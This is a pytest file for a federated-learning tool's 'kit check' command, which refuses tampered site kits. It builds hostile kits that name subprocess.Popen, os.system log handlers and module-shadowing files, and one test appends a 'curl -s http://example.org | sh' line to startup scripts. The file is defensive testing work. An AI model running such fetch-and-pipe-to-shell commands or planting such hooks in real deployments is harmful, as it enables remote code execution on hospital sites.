@@ -1,0 +1,563 @@
+"""`feddp kit check` on kits that would run code, show single images or be read by others: each is refused with its reason, and
+nothing that a kit names is loaded, built or run to find out."""
+
+import json
+import os
+import shutil
+import stat
+import subprocess
+import sys
+from dataclasses import fields
+from pathlib import Path
+
+import pytest
+from nvflare.apis.fl_constant import ConfigVarName
+from nvflare.fuel.utils.config_factory import ConfigFactory
+from nvflare.lighter.impl.cert import _CertState
+from typer.testing import CliRunner
+
+from feddp.cli import app
+from feddp.flare.policy import SitePolicy
+from feddp.kit.check import check
+from feddp.kit.effective import effective
+from feddp.kit.renew import forget
+from feddp.provision import COMPONENTS, GUARD
+from feddp.sealing.kit import Kit
+from support import ROOT
+
+pytestmark = pytest.mark.tools
+
+SHIPPED = ROOT / "provisioning"
+SERVER, LEAD = "server.example.org", "lead@consortium.org"
+ENV = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
+
+
+@pytest.fixture(autouse=True)
+def _usual_umask():
+    """What a test adds to a kit has the usual modes, whoever runs it."""
+    before = os.umask(0o022)
+    yield
+    os.umask(before)
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory, tiny_root):
+    """What `nvflare provision` writes under the usual umask: data are a real site's, and there is no GPU."""
+    folder = Path(shutil.copytree(SHIPPED, tmp_path_factory.mktemp("office") / "provisioning"))
+    project = folder / "project.yml"
+    text = project.read_text(encoding="utf-8").replace("/data/site", str(tiny_root / "site-1"))
+    project.write_text(text.replace('"cuda:0"', "cpu").replace("num_of_gpus: 1", "num_of_gpus: 0"), encoding="utf-8")
+    command = ["bash", "-c", "umask 022; nvflare provision -p project.yml -w kits"]
+    env = ENV | {"HOME": str(folder.parent)}
+    done = subprocess.run(command, cwd=folder, env=env, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
+    return folder / "kits/feddp"
+
+
+@pytest.fixture
+def copy(made, tmp_path):
+    """A copy of somebody's kit, to be spoilt."""
+    return lambda name: Path(shutil.copytree(made / "prod_00" / name, tmp_path / "kit"))
+
+
+@pytest.fixture
+def kit(copy):
+    return copy("hospital-a")
+
+
+def said(kit: Path) -> list[str]:
+    """What `feddp kit check` prints of a kit that may not start."""
+    done = CliRunner().invoke(app, ["kit", "check", "--offline", str(kit)])
+    assert done.exit_code == 2, done.output
+    return done.output.splitlines()
+
+
+def edit(path: Path, change) -> None:
+    content = json.loads((path if path.exists() else path.with_name(f"{path.name}.default")).read_text())
+    path.write_text(json.dumps(change(content) or content))
+
+
+def mode(path: Path) -> int:
+    return stat.S_IMODE(path.lstat().st_mode)
+
+
+def below(folder: Path) -> list[Path]:
+    return [folder, *folder.rglob("*")]
+
+
+# FLARE itself, up to its connection: what nvflare.private.fed.app.client.client_train calls, in its order
+STARTED = """
+import argparse, json, os, sys
+os.umask(0o022)
+from nvflare.apis.fl_constant import SiteType, SystemConfigs
+from nvflare.apis.workspace import Workspace
+from nvflare.fuel.utils.config_service import ConfigService
+from nvflare.fuel.utils.log_utils import configure_logging
+from nvflare.private.fed.app.fl_conf import FLClientStarterConfiger, create_privacy_manager
+from nvflare.private.fed.utils.fed_utils import fobs_initialize, security_init
+workspace = Workspace(sys.argv[1], "hospital-a", "config")
+fobs_initialize(workspace)
+words = ["secure_train=true", "uid=hospital-a", "org=hospital_a", "config_folder=config"]
+conf = FLClientStarterConfiger(workspace, argparse.Namespace(workspace=sys.argv[1], job_id=None), words)
+conf.configure()
+print(json.dumps(ConfigService.get_section(SystemConfigs.RESOURCES_CONF)), flush=True)
+security_init(True, conf.site_org, workspace, conf.app_validator, SiteType.CLIENT)
+create_privacy_manager(workspace, names_only=False)
+configure_logging(workspace)
+"""
+
+
+def flare_starts(kit: Path) -> subprocess.CompletedProcess:
+    command = [sys.executable, "-c", STARTED, str(kit)]
+    return subprocess.run(command, cwd=kit, env=ENV, capture_output=True, text=True, check=False)
+
+
+# nothing that a kit names is run
+
+
+JOBS_OWN = {ConfigVarName.DECOMPOSER_MODULE: "a.module.that.flare.loads"}
+
+
+@pytest.fixture(scope="module")
+def hostile(made, tmp_path_factory):
+    """A kit with code in every place from which FLARE would run it; what has run leaves a mark."""
+    folder = tmp_path_factory.mktemp("hostile")
+    marks = {name: folder / name for name in ("filter", "component", "custom", "log")}
+    kit = Path(shutil.copytree(made / "prod_00/hospital-a", folder / "kit"))
+    mkdir = {"path": "os.mkdir", "args": {"path": str(marks["filter"])}}
+    edit(kit / "local/privacy.json", lambda p: p["scopes"][0].update(task_data_filters=[mkdir]))
+    popen = {"id": "x", "path": "subprocess.Popen", "args": {"args": ["mkdir", str(marks["component"])]}}
+    edit(kit / "local/resources.json.default", lambda r: r["components"].append(popen))
+    code = kit / "local/custom" / ConfigVarName.DECOMPOSER_MODULE
+    code.mkdir(parents=True)
+    (code / "mine.py").write_text(f"import os; os.mkdir({str(marks['custom'])!r})")
+    handler = {"()": "os.mkdir", "path": str(marks["log"])}
+    edit(kit / "local/log_config.json", lambda c: c["handlers"].update(mine=handler))
+    run = kit / "a-job/app_hospital-a/config"
+    run.mkdir(parents=True)
+    (run / "resources.json").write_text(json.dumps(JOBS_OWN))
+    return kit, marks
+
+
+def test_a_hostile_kit_is_refused_with_every_reason_and_nothing_of_it_runs(hostile):
+    """The control: FLARE runs all of it, and takes the settings that a job's folder holds for the kit's own."""
+    kit, marks = hostile
+    lines = "\n".join(said(kit))
+    for words in (
+        "scope feddp has a filter in task_data_filters, of os.mkdir, which is not a reviewed class",
+        "has the component x, of subprocess.Popen, which is not a reviewed class",
+        "local/custom: holds code",
+        "names 'os.mkdir', which Python would load or call",
+        "a-job/app_hospital-a/config/resources.json: may be read by FLARE in place of the kit's own file",
+    ):
+        assert words in lines
+    assert not [name for name, mark in marks.items() if mark.exists()]
+    started = flare_starts(kit)
+    assert [json.loads(line) for line in started.stdout.splitlines()] == [JOBS_OWN], started.stderr
+    assert [name for name, mark in marks.items() if mark.exists()] == list(marks), started.stderr
+
+
+@pytest.mark.parametrize(
+    ("code", "module", "left"),
+    [
+        ("torch.py", "torch", "__pycache__"),
+        ("feddp/__init__.py", "feddp.errors", "feddp/__pycache__"),  # where a site keeps its networks, and our package's name
+    ],
+)
+def test_python_in_the_kits_folder(kit, code, module, left):
+    """The control: Python, started as FLARE starts a job's process, takes it for the installed module."""
+    (kit / code).parent.mkdir(mode=0o700, exist_ok=True)
+    (kit / code).write_text("print('not what is installed')")
+    command = [sys.executable, "-m", module]
+    done = subprocess.run(command, cwd=kit, env=ENV, capture_output=True, text=True, check=False)
+    assert done.stdout == "not what is installed\n"
+    shutil.rmtree(kit / left, ignore_errors=True)
+    (line,) = said(kit)
+    assert line.startswith(f"{kit}/{code}: holds code")
+
+
+POPEN = "subprocess.Popen"
+CONSUMER = "nvflare.app_common.resource_consumers.gpu_resource_consumer.GPUResourceConsumer"
+UPDATE = "feddp.flare.update_privacy.UpdatePrivacy"
+BUILDS = {"path": UPDATE, "args": {"mechanism": {"path": "os.mkdir", "args": {"path": "/x"}}}}
+
+
+def listening(host):
+    return {"scheme": "tcp", "resources": {"host": host, "port": 8102, "connection_security": "clear"}}
+
+
+def _component(**entry):
+    return lambda r: r["components"].append({"id": "x", **entry})
+
+
+def _filter(entry, chain="task_result_filters"):
+    return lambda p: p["scopes"][0].setdefault(chain, []).insert(0, entry)
+
+
+@pytest.mark.parametrize(
+    ("name", "change", "words"),
+    [
+        ("resources.json", _component(path=POPEN), "has the component x, of subprocess.Popen"),
+        ("resources.json", _component(class_path=POPEN), "without a `path` that names its class"),
+        ("resources.json", _component(name="Popen"), "without a `path` that names its class"),
+        ("resources.json", _component(path=["os", "mkdir"]), "without a `path` that names its class"),
+        (
+            "resources.json",
+            _component(path=CONSUMER, args={"a": {"path": POPEN}}),
+            "has the component x, a, of subprocess.Popen",
+        ),
+        ("resources.json", _component(path=CONSUMER, args={"class_attributes": {}}), "that are not a plain object"),
+        ("resources.json", lambda r: r["components"].append(POPEN), "which is not an object"),
+        (
+            "resources.json",
+            lambda r: r.update(app_validator={"path": POPEN}),
+            "has the component app_validator, of subprocess.Popen",
+        ),
+        ("resources.json", lambda r: r.update(JOBS_OWN), f"has {ConfigVarName.DECOMPOSER_MODULE}, which no kit has"),
+        ("resources.json", lambda r: r["client"].update(compression="{$HOME}"), "'{$HOME}', which FLARE would expand"),
+        ("resources.json", lambda r: r.update({"@x": {}}), "'@x', which FLARE would expand"),
+        ("resources.json.default", _component(path=POPEN), "has the component x, of subprocess.Popen"),
+        ("privacy.json", _filter(BUILDS), "a filter in task_result_filters, mechanism, of os.mkdir"),
+        ("privacy.json", _filter({"name": "PercentilePrivacy"}, "task_data_filters"), "task_data_filters without a `path`"),
+        ("privacy.json", lambda p: p.update(components=[{"id": "x", "path": POPEN}]), "makes FLARE build"),
+        ("privacy.json", lambda p: p["scopes"][0]["properties"].update(consent=["{x}"]), "'{x}', which FLARE would expand"),
+        ("comm_config.json", lambda c: c.update(comm_driver_path="."), "has comm_driver_path, which no kit has"),
+        ("comm_config.json", lambda c: c.update(allow_adhoc_conns=True), "connect to this participant without the server"),
+        ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(stream="ext://os.system"), "'ext://os.system'"),
+        ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(filename="../x"), "is not one of FLARE's logs"),
+        # `python -m`, as which jobs are started, looks for modules in the kit's folder
+        (
+            "log_config.json",
+            lambda c: c["handlers"]["logFileHandler"].update(filename="secrets.py"),
+            "'secrets.py', which is no",
+        ),
+        ("comm_config.json", lambda c: c.update(internal=listening("0.0.0.0")), "makes its jobs connect at '0.0.0.0'"),
+        ("comm_config.json", lambda c: c.update(internal=listening("elsewhere.example")), "connect at 'elsewhere.example'"),
+        ("log_config.json", lambda c: c["filters"].update(a={"()": "os.mkdir"}), "names 'os.mkdir'"),
+    ],
+)
+def test_a_setting_that_names_code_is_refused(kit, name, change, words):
+    if name == "comm_config.json":
+        (kit / "local" / name).write_text("{}")
+    edit(kit / "local" / name, change)
+    assert words in "\n".join(said(kit))
+
+
+def test_settings_of_flares_communication_pass(kit):
+    """The control: sizes and times name no code."""
+    (kit / "local/comm_config.json").write_text('{"max_message_size": 1000000, "allow_adhoc_conns": false}')
+    assert check(kit, offline=True)[1] == []
+    (kit / "local/comm_config.json").write_text(json.dumps({"internal": listening("localhost")}))
+    assert check(kit, offline=True)[1] == []
+
+
+def test_a_folder_from_which_python_would_import(kit):
+    """MONAI asks for packages that may not be there: without an __init__.py too, the kit's folder would be theirs."""
+    (kit / "ignite").mkdir()
+    (kit / "ignite/engine.py").write_text("")
+    assert f"{kit / 'ignite'}: holds code" in said(kit)[0]
+
+
+def test_a_pipe_in_place_of_a_file_is_named(kit):
+    """Reading one would wait for ever."""
+    (kit / "local/log_config.json").unlink(missing_ok=True)
+    os.mkfifo(kit / "local/log_config.json")
+    assert "is not a regular file" in "\n".join(said(kit))
+
+
+def test_what_came_with_a_kit_that_never_ran_is_shown(kit):
+    (kit / "feddp").mkdir(mode=0o700)
+    (kit / "feddp/site.secret").write_text("0" * 64)
+    assert f"keeps 1 files and folders in {kit / 'feddp'}" in "\n".join(effective(Kit.open(kit)))
+
+
+@pytest.mark.parametrize("name", ["resources.yml", "x__j_resources.json", "privacy.conf", "sub"])
+def test_a_file_that_no_kit_has(kit, name):
+    path = kit / "local" / name
+    path.mkdir() if name == "sub" else path.write_text("{}")
+    assert f"{path}: is not a file of a kit" in said(kit)[0]
+
+
+def test_flare_takes_yaml_before_the_default(kit):
+    """Why the names matter: the file that FLARE reads is not the one that its own workspace names."""
+    (kit / "local/resources.yml").write_text("{}")
+    found = ConfigFactory.search_config_format(str(kit / "local/resources.json.default"))
+    assert found[1] == str(kit / "local/resources.yml")
+
+
+def test_the_servers_storage_is_of_a_reviewed_class(copy):
+    kit = copy(SERVER)
+    edit(kit / "local/resources.json", lambda r: r["snapshot_persistor"]["args"]["storage"].update(path=POPEN))
+    assert "has the component snapshot_persistor, storage, of subprocess.Popen" in said(kit)[0]
+
+
+@pytest.mark.parametrize("owner", ["hospital-a", SERVER])
+def test_each_component_of_ours_is_demanded_and_in_force(copy, owner):
+    """Left out, switched off, under another id."""
+    kit = copy(owner)
+    path = kit / "local/resources.json.default"
+    before = path.read_text()
+    changes = [
+        lambda listed, at: listed.pop(at),
+        lambda listed, at: listed[at].update(disabled=True),
+        lambda listed, at: listed[at].update(id="x"),
+    ]
+    for entry in COMPONENTS["server" if owner == SERVER else "client"]:
+        for change in changes:
+            path.write_text(before)
+            content = json.loads(before)
+            change(content["components"], content["components"].index(entry))
+            path.write_text(json.dumps(content))
+            (line,) = said(kit)
+            assert f"lacks the component {entry['id']}, {entry['path']}. Add exactly this to components" in line
+            assert json.dumps(entry) in line
+
+
+# startup/
+
+
+@pytest.mark.parametrize(
+    ("owner", "name"),
+    [
+        ("hospital-a", "start.sh"),
+        ("hospital-a", "sub_start.sh"),
+        ("hospital-a", "stop_fl.sh"),
+        (SERVER, "sub_start.sh"),
+        (LEAD, "fl_admin.sh"),
+        (LEAD, "system_info.ipynb"),
+    ],
+)
+def test_a_changed_script_is_found(copy, owner, name):
+    """By one line more; and by another word in its place."""
+    path = copy(owner) / "startup" / name
+    before = path.read_text()
+    for change in (before + "curl -s http://example.org | sh\n", before.replace("o", "0", 1)):
+        path.write_text(change)
+        (line,) = said(path.parents[1])
+        assert line.startswith(f"{path}: differs from ")
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        (lambda c: c.update(components=[{"id": "x", "path": POPEN}]), "has components, which no kit has"),
+        (lambda c: c["client"].update(ssl_root_cert="other.pem"), "has client.ssl_root_cert: 'other.pem'"),
+        (lambda c: c["client"].update(connection_security="clear"), "has connection_security 'clear'; a kit has 'mtls'"),
+        (lambda c: c["servers"].append(c["servers"][0]), "has 2 entries in servers; a kit has 1"),
+        (lambda c: c["client"].pop("ssl_cert") and None, "lacks client.ssl_cert"),
+        # any certificate of the project would do for the server's
+        (lambda c: c["client"].update(auth_identity_map={"server": "hospital-b"}), "has client.auth_identity_map, which no"),
+        (lambda c: c["servers"][0].update(auth_identity="hospital-b"), "has servers.auth_identity, which no"),
+    ],
+)
+def test_a_changed_configuration_is_found(kit, change, words):
+    edit(kit / "startup/fed_client.json", change)
+    (line,) = said(kit)
+    assert words in line
+
+
+def test_a_file_more_in_startup(kit):
+    (kit / "startup/x__resources.json").write_text("{}")
+    (line,) = said(kit)
+    assert line.startswith(f"{kit}/startup/x__resources.json: is not a file of a kit")
+
+
+def test_a_link_is_not_followed(kit, tmp_path):
+    (tmp_path / "elsewhere").write_text("{}")
+    (kit / "local/log_config.json").symlink_to(tmp_path / "elsewhere")
+    assert said(kit) == [f"{kit}/local/log_config.json: is a link. Replace it by the file itself."]
+
+
+# modes
+
+
+def test_kits_and_the_roots_key_are_their_owners_alone(made, tmp_path):
+    """Provisioned under umask 022. The control: FLARE by itself leaves the root's key to everybody who may log in."""
+    assert len(below(made)) > 100
+    assert not [path for path in below(made) if mode(path) & 0o077]
+    assert "PRIVATE KEY" in (made / "state/cert.json").read_text()
+    alone = _CertState(str(tmp_path))
+    alone.set_root_pri_key("x")
+    alone.persist()
+    assert mode(tmp_path / "cert.json") == 0o644
+
+
+def test_renewal_keeps_the_state_to_its_owner(made, tmp_path):
+    state = Path(shutil.copytree(made / "state", tmp_path / "state")) / "cert.json"
+    forget(state, "hospital-a")
+    assert mode(state) == 0o600
+
+
+@pytest.mark.parametrize(
+    ("name", "bits", "words"),
+    [
+        ("startup/client.key", 0o644, "is open to other users (mode 0644). Run `chmod 600 "),
+        ("", 0o755, "is open to other users (mode 0755). Run `chmod 700 "),
+        ("local", 0o777, "can be changed by other users (mode 0777). Run `chmod go-w "),
+        ("startup", 0o720, "can be changed by other users (mode 0720). Run `chmod go-w "),
+        ("local/privacy.json", 0o660, "can be changed by other users (mode 0660). Run `chmod go-w "),
+    ],
+)
+def test_a_mode_that_lets_others_in(kit, name, bits, words):
+    (kit / name).chmod(bits)
+    (line,) = said(kit)
+    assert line.startswith(f"{kit / name}: {words}")
+
+
+def test_what_a_site_keeps_is_open_to_nobody_else(kit):
+    (kit / "feddp").mkdir()
+    (line,) = said(kit)
+    assert line.startswith(f"{kit}/feddp: is open to other users")
+
+
+@pytest.mark.parametrize("name", ["", "masks", "split.csv"])
+def test_data_that_everybody_may_change(kit, tiny_root, tmp_path, name):
+    data = Path(shutil.copytree(tiny_root / "site-1", tmp_path / "data"))
+    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(data=str(data)))
+    assert check(kit, offline=True)[1] == [], "the control"
+    (data / name).chmod(mode(data / name) | 0o002)
+    (line,) = said(kit)
+    assert line.startswith(f"{data / name}: can be changed by all users of this machine")
+
+
+@pytest.mark.parametrize("ours", [True, False], ids=["ours", "control"])
+def test_what_flare_writes_is_its_owners_alone(kit, ours):
+    """Its logs and its audit file, of a site started under umask 022; without our component all may read them."""
+    if not ours:
+        edit(kit / "local/resources.json", lambda r: r.update(components=r["components"][-3:]))
+    before = set(below(kit))
+    started = flare_starts(kit)
+    assert started.returncode == 0, started.stderr
+    written = {path.name: mode(path) for path in below(kit) if path not in before}
+    assert {"log.txt", "log.json", "error_log.txt", "audit.log"} <= written.keys()
+    assert set(written.values()) == {0o600 if ours else 0o644}
+
+
+def test_what_our_commands_write_is_their_users_alone(tmp_path):
+    """Under umask 022, in a process of its own."""
+    command = f"umask 022; touch control; {sys.executable} -m feddp data synthesize --out data --sites 1 --images 12 --size 32"
+    done = subprocess.run(["bash", "-c", command], cwd=tmp_path, env=ENV, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+    assert len(below(tmp_path / "data")) > 24
+    assert not [path for path in below(tmp_path / "data") if mode(path) & 0o077]
+    assert mode(tmp_path / "control") == 0o644
+
+
+# the policy
+
+
+def test_the_policy_in_words_has_every_property(made):
+    done = CliRunner().invoke(app, ["kit", "check", "--offline", str(made / "prod_00/hospital-c")])
+    assert done.exit_code == 0, done.output
+    first, scope, *lines = done.output.splitlines()
+    assert first.endswith("client hospital-c of project feddp may start")
+    assert scope == "a job under scope feddp"
+    assert [line[line.index("(") + 1 : line.index(")")] for line in lines] == [field.name for field in fields(SitePolicy)]
+    shown = "\n".join(lines)
+    assert "(consent): calibration, spectra, outside" in shown
+    assert "(private): none" in shown
+    assert "(methods): any" in shown
+    assert "(min_images): 5" in shown
+
+
+def test_every_consent_over_single_images(kit):
+    everything = {"consent": ["calibration", "spectra", "outside"], "min_images": 1}
+    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(everything))
+    assert said(kit) == [
+        f"{kit}/local/privacy.json: scope feddp is below the consortium's minimum: min_images is 1. Write at least 5."
+    ]
+
+
+WEAK = {
+    "std_images is 1": {"std_images": 1},
+    "bounds.batch is 1": {"bounds": {"batch": 1}},
+    "bounds.min_sites is 1": {"bounds": {"min_sites": 1}},
+}
+
+
+@pytest.mark.parametrize("words", WEAK)
+def test_a_policy_that_shows_single_images_or_sites(kit, words):
+    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(WEAK[words]))
+    (line,) = said(kit)
+    assert f"scope feddp is below the consortium's minimum: {words}." in line
+
+
+def test_what_a_hospital_has_loosened_is_marked(kit):
+    """It is the hospital's to decide, and its administrator sees that it was decided."""
+    own = {"seed": "plan", "approve": "any", "budget": {"jobs": 10**9}}
+    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(own))
+    assert check(kit, offline=True)[1] == []
+    shown = list(effective(Kit.open(kit)))
+    (seed,) = [line for line in shown if "(seed)" in line]
+    assert seed.endswith("(seed): plan [default: own]")
+    assert [line for line in shown if "(approve): any [default: none]" in line]
+    assert [line for line in shown if line.endswith("[default: jobs 20; evaluations 10000]")]
+    assert not [line for line in shown if "(min_images)" in line and "left out" in line]
+
+
+@pytest.mark.parametrize("wrong", [{"components": 5}, {"scopes": [{"name": "feddp", "properties": [1]}]}])
+def test_a_policy_of_another_shape_is_refused_in_words(kit, wrong):
+    edit(kit / "local/privacy.json", lambda p: p.update(wrong))
+    assert f"{kit}/local/privacy.json" in said(kit)[0]
+
+
+def test_a_filter_is_built_to_see_whether_it_takes_its_arguments(kit):
+    """The other side of the list: what is on it is built."""
+    edit(kit / "local/privacy.json", lambda p: p["scopes"][0].update(task_result_filters=[{"path": GUARD, "args": {"x": 1}}]))
+    (line,) = said(kit)
+    assert "names a filter that FLARE cannot build" in line
+
+
+# what the check itself does
+
+RECORDED = """
+import json, sys
+events, watched = [], sys.argv.pop(1).split()
+def hook(event, args):
+    if event in watched:
+        events.append((event, [str(a) for a in args]))
+sys.addaudithook(hook)
+import feddp.cli, feddp.kit.check, feddp.kit.effective
+loaded = len(events)
+if sys.argv[1] == "control":
+    open(sys.argv[2]).close()
+else:
+    sys.argv[0] = "feddp"
+    try:
+        feddp.cli.main()
+    except SystemExit as ended:
+        assert not ended.code, ended.code
+print(json.dumps([events[:loaded], events[loaded:]]))
+"""
+FILES = {"open", "os.listdir", "os.scandir", "os.mkdir", "os.rename", "os.remove", "os.chmod"}
+RUNS = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "ctypes.dlopen"}
+NETWORK = {"socket.connect", "socket.getaddrinfo", "socket.bind"}
+
+
+def recorded(*arguments) -> tuple[list, list]:
+    """What a process did while the software was loaded, and from there on."""
+    command = [sys.executable, "-c", RECORDED, " ".join(FILES | RUNS | NETWORK), *map(str, arguments)]
+    done = subprocess.run(command, env=ENV, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+    return json.loads(done.stdout.splitlines()[-1])
+
+
+def outside(events: list, *folders: Path) -> list[str]:
+    """Every file that is in none of the folders; numbers are files that are open already."""
+    files = [args[0] for event, args in events if event in FILES and not args[0].isdigit()]
+    return [name for name in files if not any(Path(name).resolve().is_relative_to(folder.resolve()) for folder in folders)]
+
+
+def test_the_check_opens_nothing_outside_kit_data_and_packages(kit, tiny_root, tmp_path):
+    """Every file, process, connection and library of the whole check, once the installed software is loaded."""
+    (tmp_path / "elsewhere").write_text("x")
+    data = tiny_root / "site-1"
+    software = [Path(sys.prefix), Path(sys.base_prefix), ROOT / "custom"]
+    loading, checking = recorded("kit", "check", "--offline", kit)
+    assert str(kit) not in json.dumps(loading)
+    assert outside(checking, kit, data, *software) == []
+    assert [event for event in checking if event[0] in RUNS | NETWORK] == []
+    opened = {args[0] for event, args in checking if event == "open"}
+    assert {str(kit / "startup/sub_start.sh"), str(kit / "local/privacy.json"), str(data / "split.csv")} <= opened
+    _, control = recorded("control", tmp_path / "elsewhere")
+    assert outside(control, kit, data, *software) == [str(tmp_path / "elsewhere")]
